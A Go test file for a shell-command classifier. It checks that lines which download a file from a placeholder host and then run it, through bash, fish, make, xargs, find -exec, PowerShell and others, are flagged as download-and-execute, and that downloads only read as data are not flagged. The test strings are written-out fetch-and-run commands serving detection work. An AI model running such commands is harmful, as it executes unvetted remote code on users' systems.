package classify

import (
	"strings"
	"testing"
)

// What is downloaded and then run by whatever way is held; what is downloaded and
// read as data is not.
func TestDownloadsThatAreRun(t *testing.T) {
	const get = "curl -so a.sh https://get.example/a; "
	for _, line := range []string{
		get + "cat a.sh | bash",
		get + "mksh < a.sh",
		get + "bash <(cat a.sh)",
		get + "cp a.sh b.sh; tcsh b.sh",
		get + "bash -euo pipefail a.sh",
		get + "echo a.sh | xargs bash",
		get + "ls *.sh | xargs -n1 bash",
		get + `find . -name '*.sh' -exec bash {} \;`,
		get + `find . -type f -exec sh {} +`,
		get + "fd a -x bash",
		get + "fish --init-command='source a.sh'",
		get + "fish -C 'source a.sh' -c ls",
		"curl -so a https://get.example/a; make -f a",
		"curl -sO https://get.example/a.mk && make -f a.mk all",
		"curl -s https://get.example/a | make -f -",
		"curl -s https://get.example/a | source /dev/stdin",
		"fish -c 'curl -s https://get.example/a | source'",
		"curl -s https://get.example/a | nu",
		"curl -s https://get.example/a | xonsh",
		"iwr https://get.example/a.ps1 -OutFile a.ps1; ./a.ps1",
		"Invoke-WebRequest -Uri https://get.example/a.ps1 -OutFile:a.ps1; powershell -File a.ps1",
	} {
		if rules := rulesOf(line); !strings.Contains(rules, "download-executed") && !strings.Contains(rules, "download-run") {
			t.Errorf("%s: %q", line, rules)
		}
	}
	const data = "curl -so a.json https://get.example/a; "
	for _, line := range []string{
		data + `find . -name '*.sh' -exec bash {} \;`,
		data + "cat a.json | python3 -m json.tool",
		data + "cat a.json | node process.js",
		data + "python3 process.py < a.json",
		data + "make -f other.mk",
		data + "source .envrc",
		"iwr https://get.example/a.json -OutFile a.json; ./build.ps1",
		"cat a.sh | bash",
	} {
		if rules := rulesOf(line); strings.Contains(rules, "download") {
			t.Errorf("%s: %q", line, rules)
		}
	}
}
